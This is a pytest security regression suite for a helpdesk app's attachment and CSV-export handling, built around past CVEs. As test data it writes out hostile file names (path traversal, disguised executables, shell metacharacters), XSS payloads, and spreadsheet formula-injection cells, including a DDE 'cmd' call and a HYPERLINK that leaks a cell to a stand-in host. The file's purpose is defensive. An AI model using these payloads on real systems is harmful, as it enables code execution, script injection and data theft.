"""Breaches that happened to others by attachments and exports: each as a test of this desk."""

import csv
import io
import re

import pytest
from django.test import Client

from foredesk.channels.tests.mails import a_mailbox
from foredesk.conftest import _agent
from foredesk.people import deactivating
from foredesk.people.models import Team
from foredesk.plumbing import cells
from foredesk.plumbing.clock import now
from foredesk.tickets import assigning
from foredesk.tickets.models import Attachment, Ticket
from foredesk.tickets.tests import cases
from tests.test_known_failures import arrive

pytestmark = pytest.mark.django_db
SCRIPT = b"<script>alert(document.domain)</script>"
NAMES = [
    ".htaccess", "\u200b.htaccess", "../../app.py", "..\\..\\x.exe", "shell.php\u200b", "C:\\x",
    "a%00.png", "CON", "\u202egpj.exe", "nul.txt:ads", "x" * 5000, ".user.ini", "web.config",
    "a.php.", "a.php::$DATA", "-rf", "~root", "a;b|c`d$(e)", "con.txt ", "\uff0e\uff0e\uff0fetc",
]  # fmt: skip


@pytest.fixture
def store(settings, tmp_path):
    settings.STORAGES = {
        **settings.STORAGES,
        "blobs": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path / "blobs")},
        },
    }
    return tmp_path


def signed_in(agent) -> Client:
    client = Client()
    client.force_login(agent)
    return client


def test_freescout_cve_2026_28289_twenty_names_reach_no_disk(store):
    """Row 13: mail2shell. Whatever a mail calls its files, they lie under their hash, outside of
    what is served, and come back as a download with a harmless name."""
    parts = "".join(
        f"--b\r\nContent-Type: application/x-php\r\n"
        f"Content-Disposition: attachment; filename*=utf-8''{_percent(name)}\r\n\r\n"
        f"<?php {number} ?>\r\n"
        for number, name in enumerate(NAMES)
    )
    envelope = arrive(
        a_mailbox(address="help@shop.example"),
        content_type="multipart/mixed; boundary=b",
        mime_version="1.0",
        body=f"--b\r\n\r\nHello\r\n{parts}--b--",
    )
    rows = list(Attachment.objects.filter(message_id=envelope.message_id))
    assert len(rows) == len(NAMES)
    lying = [path.relative_to(store) for path in store.rglob("*") if path.is_file()]
    for path in lying:
        assert re.fullmatch(r"blobs/[0-9a-f]{2}/[0-9a-f]{2}/[0-9a-f]{64}", str(path)), path
    client = signed_in(_agent("Anna", "agent"))
    for row in rows:
        assert not re.search(r"[/\\\x00-\x1f\u200b-\u200f\u202a-\u202e]", row.name)
        answer = client.get(f"/files/{row.public_id}/")
        assert answer["Content-Type"] == "application/octet-stream"
        assert answer["Content-Disposition"].startswith("attachment")


def _percent(name: str) -> str:
    return "".join(f"%{byte:02X}" for byte in name.encode())


@pytest.mark.parametrize("claim", ["image/png", "application/pdf", "text/html", "image/svg+xml"])
@pytest.mark.parametrize("data", [SCRIPT, b"<svg onload=alert(1)>", b"GIF8" + SCRIPT])
def test_rt_a_fraudulent_type_is_not_believed(claim, data):
    """Row 21: no HTML or SVG on the desk's origin, whatever it is said to be."""
    message = cases.arrive(files=(cases.inbound_file(data, "a.html", content_type=claim),))
    client = signed_in(_agent("Anna", "agent"))
    path = f"/files/{message.attachments.get().public_id}/"
    answer = client.get(path)
    assert answer["Content-Type"] == "application/octet-stream"
    assert answer["Content-Disposition"].startswith("attachment")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert answer["Cross-Origin-Resource-Policy"] == "same-origin"
    for size in ("small", "large"):
        assert client.get(f"{path}{size}/").status_code == 404


def test_rt_a_link_dies_with_the_right_to_the_ticket():
    """Row 21: the address of a file is no key. It opens for whoever may see the ticket now."""
    theirs, ours = Team.objects.create(name="Theirs"), Team.objects.create(name="Ours")
    ben = _agent("Ben", "agent", sees="teams", teams=[ours])
    boss = _agent("Boss", "admin")
    message = cases.arrive(files=(cases.inbound_file(b"x", "a.txt"),))
    path = f"/files/{message.attachments.get().public_id}/"
    ticket = Ticket.objects.get(pk=message.ticket_id)
    client = signed_in(ben)

    def answers():
        return {client.get(f"{path}{more}").status_code for more in ("", "?download=1")}

    assert answers() == {200}
    assigning.hand_to(ticket, theirs, by=boss, at=now())
    assert answers() == {404}
    assigning.hand_to(ticket, ours, by=boss, at=now())
    assert answers() == {200}
    deactivating.deactivate(ben, by=boss, at=now())
    assert answers() == {302}
    assert Client().get(path).status_code == 302


def test_rt_a_file_of_a_draft_is_its_writers_alone():
    """Row 21: nor does an admin open what a colleague has not sent."""
    anna, boss = _agent("Anna", "agent"), _agent("Boss", "admin")
    _draft, file = cases.draft_with_file(cases.ticket_of(), by=anna)
    assert signed_in(anna).get(f"/files/{file.public_id}/").status_code == 200
    assert signed_in(boss).get(f"/files/{file.public_id}/").status_code == 404


def test_rt_no_file_is_found_by_counting():
    """Row 21: a number, a hash and a guess open nothing."""
    message = cases.arrive(files=(cases.inbound_file(b"x", "a.txt"),))
    file = message.attachments.get()
    assert len(file.public_id) >= 16
    client = signed_in(_agent("Anna", "agent"))
    for guess in (str(file.pk), file.blob_id, file.public_id[:-1], file.public_id.upper()):
        assert client.get(f"/files/{guess}/").status_code == 404


@pytest.mark.parametrize(
    "bad",
    [
        "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", " =1", "\uff1d1+1", '"=1', "'=1",
        '=HYPERLINK("http://t.example?x="&A1,"x")', "|cmd", "a,=1", ";=1", "-5", "+49 30 1234",
    ],
)  # fmt: skip
def test_rt_cve_2025_61873_osticket_cve_2019_14749_no_exported_cell_runs(bad):
    """Row 20: a customer's subject, name, address and words are text in every spreadsheet, also in
    one that splits at semicolons, and come back as they were."""
    cases.ticket_of(subject=bad, name=bad, text=bad)
    answer = signed_in(_agent("Anna", "agent")).get("/inbox/tickets.csv?view=open")
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    for name in ("Subject", "Customer", "Begins with"):
        assert row[name].lstrip(' "\t\r\n')[:1] not in set("=+-@\uff1d\uff0b\uff0d\uff20")
        assert cells.original(row[name]).split() == bad.split()
    for sign in ",;\t":
        for cell in (one for line in text.splitlines() for one in line.split(sign)):
            assert not re.match(r"[\"\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]", cell), cell
